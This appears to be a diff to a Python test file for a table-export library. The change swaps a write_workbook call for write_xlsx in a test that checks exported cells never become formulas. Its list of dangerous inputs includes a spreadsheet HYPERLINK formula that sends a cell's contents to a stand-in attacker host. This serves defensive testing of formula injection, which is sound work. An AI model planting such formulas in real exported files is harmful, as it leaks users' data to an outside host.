@@ -7,7 +7,7 @@ from datetime import date
 import openpyxl
 import pytest
 
-from styra.tables import ExportTable, write_csv, write_plain_csv, write_workbook, write_xlsx
+from styra.tables import ExportTable, write_csv, write_plain_csv, write_xlsx
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")',
@@ -63,7 +63,7 @@ def test_excel_stores_it_as_a_quoted_string(text):
 
 def test_no_cell_of_a_workbook_is_a_formula():
     tables = [table(text) for text in DANGEROUS]
-    book = openpyxl.load_workbook(io.BytesIO(write_workbook(tables)))
+    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(*tables)))
     cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
     assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
 
